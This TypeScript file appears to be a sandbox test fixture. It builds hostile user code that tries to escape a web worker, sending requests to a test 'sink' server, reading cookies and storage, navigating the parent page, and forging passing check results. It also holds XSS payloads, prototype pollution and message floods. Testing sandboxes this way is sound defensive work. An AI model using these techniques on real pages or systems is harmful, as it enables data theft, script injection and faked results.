/**
 * Code that somebody might share to act as whoever opens it. Each part tries one way out and
 * notes how that went; none may work, whatever the notes say.
 */

/** @param sink address of a server that counts what reaches it */
export function hostileCode(sink: string): string {
  return `import { RaftNode } from 'netsplit/raft'

const SINK = ${JSON.stringify(sink)}
const all = globalThis as any

function attempt(name: string, act: () => unknown): string {
  try {
    return name + ':' + String(act())
  } catch (error) {
    return name + ' failed'
  }
}

/** Whatever the global or its prototypes still have under this name. */
function find(name: string): any {
  for (let at = all; at !== null; at = Object.getPrototypeOf(at)) {
    const own = Object.getOwnPropertyDescriptor(at, name)
    if (own === undefined) continue
    return own.value ?? own.get?.call(all)
  }
  return undefined
}

function steal(): readonly string[] {
  const later = async () => {
    await null
    for (const name of ['fetch', 'importScripts']) {
      try { await find(name)?.call(all, SINK + '/later-' + name) } catch {}
    }
    try { await (0, eval)('import("' + SINK + '/import")') } catch {}
  }
  later()
  return [
    attempt('fetch', () => find('fetch')?.call(all, SINK + '/fetch', { mode: 'no-cors' })),
    attempt('xhr', () => { const X = find('XMLHttpRequest'); const x = new X(); x.open('GET', SINK + '/xhr', false); x.send(); return x.status }),
    attempt('socket', () => new (find('WebSocket'))(SINK.replace('http', 'ws') + '/socket')),
    attempt('events', () => new (find('EventSource'))(SINK + '/events')),
    attempt('beacon', () => find('navigator')?.sendBeacon(SINK + '/beacon', 'x')),
    attempt('import', () => find('importScripts')?.call(all, SINK + '/scripts')),
    attempt('worker', () => new (find('Worker'))('data:text/javascript,fetch("' + SINK + '/worker")')),
    attempt('eval', () => new Function('return fetch("' + SINK + '/eval")')()),
    attempt('parent', () => { all.parent.document.title = 'pwned'; return 1 }),
    attempt('top', () => { all.top.location = SINK + '/top'; return 1 }),
    attempt('location', () => { all.location = SINK + '/location'; return 1 }),
    attempt('open', () => all.open(SINK + '/open')),
    attempt('cookie', () => all.document.cookie),
    attempt('storage', () => all.localStorage.getItem('netsplit')),
    attempt('database', () => find('indexedDB')?.open('x')),
    attempt('caches', () => find('caches')?.open('x')),
    attempt('channel', () => new (find('BroadcastChannel'))('netsplit').postMessage('passed')),
    attempt('post', () => find('postMessage')?.call(all, { kind: 'check-done', passed: true })),
  ]
}

/** Takes the port with which the worker speaks to the page, and says what was never true. */
function forge(): void {
  const own = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
  if (own === undefined) return
  Object.defineProperty(MessageEvent.prototype, 'data', {
    configurable: true,
    get(this: any) {
      const port = this.target
      const violation = { event: 0, message: '<img src=x onerror=alert(1)>', related: [], nodes: ['n1'] }
      const passed = { checkId: 'healthy-cluster', verdict: 'pass', seedsPassed: 20, seedsRun: 20, seedCount: 20 }
      const lies: unknown[] = [
        { kind: 'check-done', result: passed, trace: '' },
        { kind: 'judged' },
        { kind: 'hand', from: 0, trace: 'netsplit-trace 2 ["s",1,[{}],[]]\\n', choices: [], hasEnded: false, stepCount: 9, script: '' },
        { kind: 'replayed', result: { seed: 1, outcome: { kind: 'claim-broken', claimId: 'x', at: 0, violation }, traceHash: '', eventCount: 1 }, trace: '', lines: [], script: '', fell: [] },
        JSON.parse('{"kind":"shrunk","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
        { kind: '__proto__' },
        { kind: 'constructor' },
        'passed!',
        null,
      ]
      for (const lie of lies) port.postMessage(lie)
      for (let count = 0; count < 20_000; count++) port.postMessage({ kind: 'seed-done', checkId: 'x', seed: count, events: 1 })
      return own.get?.call(this)
    },
  })
}

/** Bends what our own part of the worker is made of. */
function pollute(): void {
  const proto = Object.prototype as any
  proto.polluted = true
  proto.source = 'STOLEN'
  proto.toJSON = undefined
  all.polluted = true
}

export class Raft extends RaftNode {
  onStart() {
    if (this.id === 'n1') {
      forge()
      this.note(steal().join(', '))
      this.note('<script>document.title="pwned"</script><img src=x onerror="document.title=\\'pwned\\'">')
      this.note('N'.repeat(1_000_000))
      pollute()
    }
    this.setTimer('spin', 5)
  }
  onMessage() {}
  onTimer() {
    const html = '<svg onload=alert(1)><iframe src="' + SINK + '/frame"></iframe>'
    this.note(html)
    if (this.id === 'n2' && this.now() > 100) throw new Error(html.repeat(2_000))
    this.setTimer('spin', 5)
  }
}
`
}
